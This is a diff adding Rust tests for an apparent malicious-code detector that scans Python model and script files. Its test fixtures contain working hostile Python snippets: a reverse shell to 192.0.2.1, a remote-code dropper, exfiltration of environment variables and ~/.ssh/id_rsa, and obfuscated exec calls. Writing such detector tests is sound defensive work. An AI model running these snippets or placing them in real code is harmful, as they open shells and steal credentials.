@@ -1,0 +1,105 @@
+use super::*;
+
+fn verdicts(source: &str, model_code: bool) -> Vec<Verdict> {
+    judge(&analyse(source).expect(source), model_code)
+}
+
+#[test]
+fn imports_are_resolved() {
+    let a = analyse(
+        "import subprocess as sp\nfrom os import system as s\nimport os.path\nsp.run(['id'])\ns('id')\nos.popen('id')\ngetattr(os, 'system')('x')\n",
+    )
+    .unwrap();
+    let targets: Vec<&str> = a.calls.iter().map(|c| c.target.as_str()).collect();
+    assert_eq!(
+        targets,
+        ["subprocess.run", "os.system", "os.popen", "os.system"]
+    );
+    assert_eq!(a.calls[1].line, 5);
+    assert!(a.calls.iter().all(|c| c.scope.runs_on_load()));
+}
+
+#[test]
+fn model_code_that_shells_out_is_malicious() {
+    let source = "import os\nimport torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        os.system('echo hi')\n        return x\n";
+    let v = verdicts(source, true);
+    assert!(
+        v.iter()
+            .any(|v| v.clearly_malicious && v.evidence.contains("in `M.forward`")),
+        "{v:?}"
+    );
+    // The same code in a script that nothing loads is not "clearly malicious".
+    assert!(verdicts(source, false).is_empty());
+}
+
+#[test]
+fn the_malicious_classes_are_found_in_any_script() {
+    let decoded = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+    assert!(verdicts(decoded, false)[0].what.contains("decoded"));
+    let chars = "exec(''.join(map(chr, [112, 114])))\n";
+    assert!(verdicts(chars, false)[0].clearly_malicious);
+    let shell = "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')\n";
+    assert!(
+        verdicts(shell, false)
+            .iter()
+            .any(|v| v.what.contains("reverse shell"))
+    );
+    let dropper =
+        "import urllib.request as u\ncode = u.urlopen('http://192.0.2.1/x').read()\nexec(code)\n";
+    assert!(
+        verdicts(dropper, false)
+            .iter()
+            .any(|v| v.what.contains("fetches"))
+    );
+    let thief = "import os, json, requests\nrequests.post('http://192.0.2.1', data=json.dumps(dict(os.environ)))\n";
+    assert!(
+        verdicts(thief, false)
+            .iter()
+            .any(|v| v.what.contains("credentials"))
+    );
+    let keys = "import requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://192.0.2.1', data=key)\n";
+    assert!(
+        verdicts(keys, false)
+            .iter()
+            .any(|v| v.what.contains("credentials"))
+    );
+}
+
+#[test]
+fn ordinary_code_is_not_flagged() {
+    let modelling = r#"
+import math
+from typing import Optional
+import torch
+import torch.nn as nn
+from .configuration_tiny import TinyConfig
+from transformers import PreTrainedModel
+from transformers.utils import is_flash_attn_2_available
+
+if is_flash_attn_2_available():
+    from flash_attn import flash_attn_func
+
+class TinyModel(PreTrainedModel):
+    config_class = TinyConfig
+    def __init__(self, config):
+        super().__init__(config)
+        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
+        self.scale = 1 / math.sqrt(config.hidden_size)
+    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
+        y = self.proj(x) * self.scale
+        return torch.compile(lambda t: t)(y)
+"#;
+    let a = analyse(modelling).unwrap();
+    assert_eq!(a.relative_imports, ["configuration_tiny"]);
+    assert!(judge(&a, true).is_empty(), "{:?}", a.calls);
+    let script = "import subprocess, argparse\nfrom pathlib import Path\nsubprocess.run(['nvidia-smi'])\nPath('out.txt').write_text('ok')\n";
+    assert!(verdicts(script, false).is_empty());
+}
+
+#[test]
+fn unparseable_and_huge_sources_are_errors() {
+    assert!(analyse("def f(:\n").is_err());
+    assert!(analyse(&"x".repeat(MAX_SOURCE + 1)).is_err());
+    let deep = "(".repeat(10_000) + &")".repeat(10_000);
+    let _ = analyse(&deep);
+}
